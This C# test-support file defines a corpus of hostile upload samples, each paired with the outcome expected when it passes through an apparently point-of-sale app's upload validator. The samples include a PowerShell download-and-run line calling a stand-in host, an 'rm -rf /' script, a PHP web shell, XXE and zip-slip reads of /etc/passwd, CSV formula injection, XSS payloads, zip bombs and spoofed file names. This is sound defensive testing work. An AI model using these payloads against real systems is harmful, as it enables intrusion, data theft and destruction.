using System.Buffers.Binary;
using System.Globalization;
using System.Text;
using PosCases.Cases.Evidence.Examination;
using PosCases.Seeding;

namespace PosCases.TestSupport;

/// <summary>A file that somebody might hand in to do harm, and what becomes of it.</summary>
/// <param name="What">What it is; unique.</param>
/// <param name="FileName">What the sender calls it.</param>
/// <param name="Tries">What it tries.</param>
/// <param name="Make">Makes its bytes.</param>
internal sealed record HostileFile(string What, string FileName, string Tries, Func<byte[]> Make)
{
    /// <summary>Why it is refused; none when it is taken in.</summary>
    public FileRefusal? Refused { get; init; }

    /// <summary>As what it is taken in.</summary>
    public string? Type { get; init; }

    /// <summary>With which warnings.</summary>
    public FileWarnings Warnings { get; init; }

    /// <summary>What it is called afterwards, where the name is what is hostile.</summary>
    public string? Label { get; init; }

    public override string ToString() => What;
}

/// <summary>The corpus of hostile files: docs/hostile-uploads.md is written from it, and every one of them is sent through the real endpoint.</summary>
internal static class HostileFiles
{
    private const string Png = "image/png";
    private const string Pdf = "application/pdf";
    private const string Text = "text/plain";
    private const string Zip = "application/zip";
    private const string Word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string Excel = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private static readonly (string, byte[]) Types = ("[Content_Types].xml", "<Types/>"u8.ToArray());

    /// <summary>All of them.</summary>
    public static IReadOnlyList<HostileFile> All { get; } = [.. Programs(), .. Pages(), .. Shapes(), .. Pictures(), .. Papers(), .. Archives(), .. Names()];

    private static IEnumerable<HostileFile> Programs() =>
    [
        No("windows program", "licence.jpg", "to be started by whoever opens it", FileRefusal.Program, "MZ\u0090\0\u0003\0\0\0\u0004"),
        No("windows program that begins like text", "notes.txt", "to pass as a text", FileRefusal.Program, "MZ this program cannot be run"),
        No("linux program", "statement.pdf", "to be started on a server", FileRefusal.Program, [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0]),
        No("mac program", "app", "to be started on a Mac", FileRefusal.Program, [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0, 2]),
        No("android program code", "classes.dex", "to be started on a telephone", FileRefusal.Program, "dex\n035\0 code"),
        No("java class", "Slip.class", "to be started by Java", FileRefusal.Program, [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]),
        No("shell script", "pay.png", "to be started by a shell", FileRefusal.Program, "#!/bin/sh\nrm -rf /\n"),
        No("shell script by another interpreter", "pay.csv", "to be started by a shell", FileRefusal.Program, "#!/usr/bin/env python3\nimport os\n"),
        No("web assembly", "slip.wasm", "to be run by a browser", FileRefusal.Unknown, "\0asm\u0001\0\0\0"),
        No("flash film", "clip.swf", "to be run by an old browser", FileRefusal.Unknown, "FWS\u0009\u0001\0\0\0\0\0"),
        No("windows shortcut", "slip.lnk", "to start something else", FileRefusal.Unknown, [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0]),
        No("installer in the container of old office files", "invoice.doc", "to be installed", FileRefusal.Unknown, () => ExampleFiles.Ole("Binary.CustomAction")),
        No("windows help file", "help.chm", "to run the scripts in it", FileRefusal.Unknown, "ITSF\u0003\0\0\0\u0060\0\0\0"),
        No("postscript", "slip.eps", "to run as a program of a printer", FileRefusal.Unknown, "%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
        No("rich text with an object", "letter.rtf", "to load an object into the word processor", FileRefusal.Unknown, "{\\rtf1\\object\\objupdate}"),
        Yes("batch file", "list.txt", "to be started; it is text, and only ever handed out as text for saving", Text, "@echo off\r\ndel /q *.*\r\n"),
        Yes("powershell script", "list.csv", "to be started; likewise", Text, "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a.example')\r\n"),
        Yes("javascript as a text", "list.js", "to be run by a browser; it is handed out as text with nosniff", Text, "alert(document.cookie)\n"),
    ];

    private static IEnumerable<HostileFile> Pages() =>
    [
        No("web page", "slip.html", "to run scripts in the reader's session", FileRefusal.WebPage, "<!DOCTYPE html><script>alert(1)</script>"),
        No("web page behind blanks", "slip.txt", "to be guessed as a page by the browser", FileRefusal.WebPage, "\r\n  <html><script>alert(1)</script>"),
        No("web page behind a byte order mark", "slip.txt", "to slip past the look at the first byte", FileRefusal.WebPage, [0xEF, 0xBB, 0xBF, .. "<html>"u8]),
        No("web page in UTF-16", "slip.txt", "to slip past a search for ASCII", FileRefusal.Unknown, [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("x <html>")]),
        No("script within a text", "slip.csv", "to be guessed as a page by the browser", FileRefusal.WebPage, "hello <SCRIPT>alert(1)</SCRIPT>"),
        No("frame within a text", "slip.csv", "to load another page", FileRefusal.WebPage, "a,b\n<iframe src=//a.example>"),
        No("drawing with a script", "chart.svg", "to run scripts where a picture is expected", FileRefusal.WebPage, "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        No("drawing behind a declaration", "chart.svg", "likewise", FileRefusal.WebPage, "<?xml version=\"1.0\"?><svg/>"),
        No("XML with an entity of another file", "data.xml", "to read a file of the server", FileRefusal.WebPage, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        No("page of a server's language", "slip.php", "to be run by a web server", FileRefusal.Unknown, "<?php system($_GET['c']);"),
        Yes("script in UTF-7", "slip.txt", "to become a page where a browser guesses the encoding; it is handed out with nosniff", Text, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        Yes("mail with a page in it", "notice.eml", "to run scripts when it is read; it is only ever saved", "message/rfc822", "From: bank@example.com\r\nSubject: notice\r\nContent-Type: text/html\r\n\r\n<html><script>alert(1)</script>"),
        Yes("table with a formula", "list.csv", "to start a program from the spreadsheet; what the app itself exports is never a formula", Text, "date,amount\n=cmd|' /C calc'!A0,1\n"),
    ];

    private static IEnumerable<HostileFile> Shapes() =>
    [
        No("nothing", "empty.png", "to be kept without bytes", FileRefusal.Empty, []),
        No("only blanks", "empty.txt", "to be kept without content", FileRefusal.Unknown, " \r\n\t"),
        No("random bytes", "a.png", "to find a reader that breaks", FileRefusal.Unknown, [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]),
        No("text with control characters", "log.txt", "to move the cursor of a terminal", FileRefusal.Unknown, "pay \u0007\u0008\u0008\u0008 now"),
        No("text with zeros behind its beginning", "log.txt", "to hide a program behind a text", FileRefusal.Unknown, () => [.. Encoding.ASCII.GetBytes(new string('a', 5000)), 0, 1]),
        No("rar archive", "a.rar", "to bring in what cannot be looked into", FileRefusal.Unknown, "Rar!\u001a\u0007\u0001\0"),
        No("7z archive", "a.7z", "likewise", FileRefusal.Unknown, [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4, 0, 0, 0, 0]),
        No("gzip archive", "a.svgz", "likewise", FileRefusal.Unknown, [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        No("xz archive", "a.xz", "likewise", FileRefusal.Unknown, [0xFD, (byte)'7', (byte)'z', (byte)'X', (byte)'Z', 0, 0, 4]),
        No("cabinet", "a.cab", "likewise", FileRefusal.Unknown, "MSCF\0\0\0\0\u0001\0\0\0"),
        No("tar archive", "a.tar", "likewise", FileRefusal.Unknown, () => [.. "slip.jpg"u8, .. new byte[504]]),
        No("container of pictures and films of another kind", "a.avi", "to reach a reader that nobody tested", FileRefusal.Unknown, "RIFF\0\0\0\0AVI LIST"),
    ];

    private static IEnumerable<HostileFile> Pictures() =>
    [
        No("picture of too many points", "photo.png", "to exhaust the memory of whoever draws it", FileRefusal.TooManyPixels, () => ExampleFiles.Png(30_000, 30_000)),
        No("photo of too many points", "photo.jpg", "likewise", FileRefusal.TooManyPixels, () => ExampleFiles.Jpeg(65_000, 65_000)),
        No("telephone's photo of too many points", "photo.heic", "likewise, behind a small preview", FileRefusal.TooManyPixels, () => ExampleFiles.Heic(100_000, 100_000)),
        No("web picture of too many points", "photo.webp", "likewise", FileRefusal.TooManyPixels, () => ExampleFiles.WebP(16_384, 16_384)),
        No("animated picture of too many points", "photo.gif", "likewise", FileRefusal.TooManyPixels, () => ExampleFiles.Gif(65_535, 65_535)),
        No("bitmap of too many points", "photo.bmp", "likewise, from the bottom up", FileRefusal.TooManyPixels, () => ExampleFiles.Bmp(30_000, -30_000)),
        No("bitmap of the lowest height there is", "photo.bmp", "to overflow when its sign is turned", FileRefusal.Broken, () => ExampleFiles.Bmp(10, int.MinValue)),
        No("picture of negative width", "photo.png", "to get past the limit", FileRefusal.Broken, () => ExampleFiles.Png(-1, 10)),
        No("picture without points", "photo.png", "to divide by zero", FileRefusal.Broken, () => ExampleFiles.Png(0, 10)),
        No("picture that is cut in its head", "photo.png", "to be read beyond its end", FileRefusal.Broken, () => DemoPaper.Draw(1)[..16]),
        No("photo that is cut in its head", "photo.jpg", "likewise", FileRefusal.Broken, () => ExampleFiles.Jpeg(4000, 3000)[..12]),
        No("photo whose segments lead nowhere", "photo.jpg", "to be read for ever", FileRefusal.Broken, [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, 0xFF, 0xE0, 0, 0, 0xFF, 0xE0, 0, 0, 0xFF, 0xE0, 0, 0]),
        No("telephone's photo without a size", "photo.heic", "to be drawn without a limit", FileRefusal.Broken, () => ExampleFiles.Heic(10, 10)[..24]),
        No("picture that is an archive too", "photo.png", "to be unpacked by whoever is told to", FileRefusal.Polyglot, () => [.. DemoPaper.Draw(1), .. ExampleFiles.Zip(("x.exe", "MZ"u8.ToArray()))]),
        No("picture that is a java program too", "photo.gif", "to be loaded by Java", FileRefusal.Polyglot, () => [.. ExampleFiles.Gif(1, 1), .. ExampleFiles.Zip(("META-INF/MANIFEST.MF", "a"u8.ToArray()))]),
        No("photo that is an archive too", "photo.jpg", "to be unpacked by whoever is told to", FileRefusal.Polyglot, () => [.. ExampleFiles.Jpeg(10, 10), .. ExampleFiles.Zip(("x.exe", "MZ"u8.ToArray()))]),
        Yes("picture that is a script too", "photo.gif", "to be loaded as a script; it is handed out as a picture with nosniff", "image/gif", [.. "GIF89a/*"u8, 1, 0, .. "*/=1;alert(1)"u8]),
        Yes("picture with a page behind it", "photo.png", "to be guessed as a page; likewise, and drawn anew before it is shown", Png, () => [.. DemoPaper.Draw(1), .. "<script>alert(1)</script>"u8]),
        Yes("photo with a script among its notes", "photo.jpg", "to run where notes are shown; they are never shown", "image/jpeg", () => [.. ExampleFiles.Jpeg(10, 10)[..2], 0xFF, 0xFE, 0, 27, .. "<script>alert(1)</script>"u8, .. ExampleFiles.Jpeg(10, 10)[2..]]),
    ];

    private static IEnumerable<HostileFile> Papers() =>
    [
        Yes("pdf with a script", "paper.pdf", "to run when it is opened", Pdf, () => ExampleFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), FileWarnings.ActiveContent),
        Yes("pdf that starts a program", "paper.pdf", "to start something", Pdf, () => ExampleFiles.Pdf("/OpenAction << /S /Launch /F (calc.exe) >>"), FileWarnings.ActiveContent),
        Yes("pdf with a file in it", "paper.pdf", "to bring in what is refused by itself", Pdf, () => ExampleFiles.Pdf("/Names << /EmbeddedFile 5 0 R >>"), FileWarnings.ActiveContent),
        Yes("pdf with a film", "paper.pdf", "to reach the player of films", Pdf, () => ExampleFiles.Pdf("/Subtype /RichMedia"), FileWarnings.ActiveContent),
        Yes("pdf with a password", "paper.pdf", "to bring in what cannot be looked into", Pdf, () => ExampleFiles.Pdf("/Encrypt 5 0 R"), FileWarnings.Encrypted),
        Yes("pdf with a page in it", "paper.pdf", "to be guessed as a page; it is handed out as a PDF with nosniff", Pdf, () => ExampleFiles.Pdf("/A (<script>alert(1)</script>)")),
        No("pdf without its end", "paper.pdf", "to break the program that reads it", FileRefusal.Broken, () => ExampleFiles.Pdf()[..40]),
        No("pdf that is an archive too", "paper.pdf", "to be unpacked by whoever is told to", FileRefusal.Polyglot, () => [.. ExampleFiles.Pdf(), .. ExampleFiles.Zip(("x.exe", "MZ"u8.ToArray()))]),
        Yes("word file with macros", "letter.docx", "to run when macros are allowed", Word, () => ExampleFiles.Zip(Types, ("word/document.xml", "<d/>"u8.ToArray()), ("word/vbaProject.bin", [1, 2])), FileWarnings.Macros),
        Yes("workbook with controls", "list.xlsx", "to load a control into the spreadsheet", Excel, () => ExampleFiles.Zip(Types, ("xl/workbook.xml", "<w/>"u8.ToArray()), ("xl/activeX/activeX1.bin", [1])), FileWarnings.Macros),
        Yes("workbook with old macros", "list.xlsx", "to run macros that no VBA search finds", Excel, () => ExampleFiles.Zip(Types, ("xl/workbook.xml", "<w/>"u8.ToArray()), ("xl/macrosheets/sheet1.xml", "<m/>"u8.ToArray())), FileWarnings.Macros),
        Yes("old workbook with macros", "list.xls", "to run when macros are allowed", "application/vnd.ms-excel", () => ExampleFiles.Ole("Workbook", "_VBA_PROJECT"), FileWarnings.Macros),
        Yes("office file with a password", "list.xlsx", "to bring in what cannot be looked into", "application/vnd.ms-office", () => ExampleFiles.Ole("EncryptedPackage"), FileWarnings.Encrypted),
        Yes("word file whose XML unfolds a billion times", "letter.docx", "to exhaust the memory of whoever reads it; the search for card numbers reads no such definitions", Word, () => ExampleFiles.Zip(Types, ("word/document.xml", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><d>&c;</d>"u8.ToArray()))),
        No("workbook that unpacks to too much", "list.xlsx", "to exhaust disk and memory", FileRefusal.Archive, () => ExampleFiles.Zip(Types, ("xl/workbook.xml", ExampleFiles.Letters(40 * 1024 * 1024)))),
    ];

    private static IEnumerable<HostileFile> Archives() =>
    [
        No("archive with a program", "papers.zip", "to bring in what is refused by itself", FileRefusal.ArchiveContent, () => ExampleFiles.Zip(("slip.jpg", "MZ program"u8.ToArray()))),
        No("archive with a page", "papers.zip", "likewise", FileRefusal.ArchiveContent, () => ExampleFiles.Zip(("slip.txt", "<html>"u8.ToArray()))),
        No("archive with android code", "app.apk", "likewise", FileRefusal.ArchiveContent, () => ExampleFiles.Zip(("classes.dex", "dex\n035\0"u8.ToArray()))),
        No("archive with java code", "app.jar", "likewise", FileRefusal.ArchiveContent, () => ExampleFiles.Zip(("A.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]))),
        No("archive that says it is an office file", "letter.docx", "to pass as a document", FileRefusal.ArchiveContent, () => ExampleFiles.Zip(Types, ("x.txt", "a"u8.ToArray()))),
        No("archive in an archive", "papers.zip", "to hide in the second layer", FileRefusal.Archive, () => ExampleFiles.Zip(("in.zip", ExampleFiles.Zip(("1.jpg", ExampleFiles.Jpeg(10, 10)))))),
        No("archive that leads up", "papers.zip", "to overwrite files outside of its folder", FileRefusal.Archive, () => ExampleFiles.Zip(("../../etc/passwd", "a"u8.ToArray()))),
        No("archive that leads to the root", "papers.zip", "likewise", FileRefusal.Archive, () => ExampleFiles.Zip(("/etc/passwd", "a"u8.ToArray()))),
        No("archive with a drive", "papers.zip", "likewise", FileRefusal.Archive, () => ExampleFiles.Zip(("C:\\x.txt", "a"u8.ToArray()))),
        No("archive with backslashes", "papers.zip", "likewise, on Windows alone", FileRefusal.Archive, () => ExampleFiles.Zip(("..\\..\\x.txt", "a"u8.ToArray()))),
        No("archive with a stream beside a file", "papers.zip", "to hide content on Windows", FileRefusal.Archive, () => ExampleFiles.Zip(("a.txt:b", "a"u8.ToArray()))),
        No("archive of too many files", "papers.zip", "to exhaust the time of whoever looks into it", FileRefusal.Archive, () => ExampleFiles.Zip([.. Enumerable.Range(0, 2_001).Select(n => ($"{n}.txt", "a"u8.ToArray()))])),
        No("archive that unpacks to too much", "papers.zip", "to exhaust disk and memory", FileRefusal.Archive, () => ExampleFiles.Zip(("1.txt", ExampleFiles.Letters(40 * 1024 * 1024)))),
        No("archive that lies about its size", "papers.zip", "to get past the limit", FileRefusal.Broken, Lying),
        No("archive with a password", "papers.zip", "to bring in what cannot be looked into", FileRefusal.LockedArchive, ExampleFiles.Locked),
        No("archive that is cut short", "papers.zip", "to break the program that reads it", FileRefusal.Broken, () => ExampleFiles.Zip(("1.jpg", ExampleFiles.Jpeg(4000, 3000)))[..60]),
        No("archive of nothing", "papers.zip", "to be kept without content", FileRefusal.Unknown, () => ExampleFiles.Zip()),
        Yes("archive of papers with macros", "papers.zip", "to run when macros are allowed; nothing is unpacked on the server", Zip, () => ExampleFiles.Zip(("1.docx", ExampleFiles.Zip(Types, ("word/document.xml", "<d/>"u8.ToArray()), ("word/vbaProject.bin", [1]))))),
    ];

    private static IEnumerable<HostileFile> Names() =>
    [
        Named("name that leads up", "../../../etc/passwd", "passwd", "to be written elsewhere"),
        Named("name with a drive and backslashes", "C:\\windows\\system32\\slip.png", "slip.png", "likewise, on Windows"),
        Named("name that is written backwards", "slip\u202Egnp.exe", "slipgnp.exe", "to look like a picture and be a program"),
        Named("name with a page in it", "<img src=x onerror=alert(1)>.png", "img src=x onerror=alert(1).png", "to run where the name is shown"),
        Named("name with control characters", "a\u0007\u001B[2Jb.png", "a[2Jb.png", "to move the cursor of a terminal"),
        Named("name with invisible characters", "sl\u200Bip\uFEFF.png", "slip.png", "to look like another name"),
        Named("name of dots", "...", "file", "to be no name at all"),
        Named("name of four hundred letters", new string('a', 400) + ".png", new string('a', 116) + ".png", "to overflow a column"),
        Named("name with a card number", "6222021234567890128.png", "622202*********0128.png", "to store a card number beside the file"),
    ];

    private static byte[] Lying()
    {
        // The directory says one byte; the entry unpacks to forty million.
        var zip = ExampleFiles.Zip(("1.txt", ExampleFiles.Letters(40 * 1024 * 1024)));
        BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(zip.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 24), 1);
        return zip;
    }

    private static HostileFile No(string what, string name, string tries, FileRefusal why, Func<byte[]> make) => new(what, name, tries, make) { Refused = why };

    private static HostileFile No(string what, string name, string tries, FileRefusal why, byte[] bytes) => No(what, name, tries, why, () => bytes);

    private static HostileFile No(string what, string name, string tries, FileRefusal why, string latin) => No(what, name, tries, why, Encoding.Latin1.GetBytes(latin));

    private static HostileFile Yes(string what, string name, string tries, string type, Func<byte[]> make, FileWarnings warnings = FileWarnings.None) =>
        new(what, name, tries, make) { Type = type, Warnings = warnings };

    private static HostileFile Yes(string what, string name, string tries, string type, byte[] bytes) => Yes(what, name, tries, type, () => bytes);

    private static HostileFile Yes(string what, string name, string tries, string type, string latin) => Yes(what, name, tries, type, Encoding.Latin1.GetBytes(latin));

    private static HostileFile Named(string what, string name, string label, string tries) =>
        new(what, name, tries, () => DemoPaper.Draw(what.Length)) { Type = Png, Label = label };

    /// <summary>The outcome in words, for the document.</summary>
    public static string OutcomeOf(HostileFile file) =>
        file.Refused is { } why ? $"refused: {why}"
        : file.Label is { } label ? $"taken under the name `{(label.Length > 40 ? string.Create(CultureInfo.InvariantCulture, $"{label[..8]}…{label[^8..]}") : label)}`"
        : $"taken as {file.Type}{(file.Warnings == FileWarnings.None ? "" : $", marked {file.Warnings}")}";
}
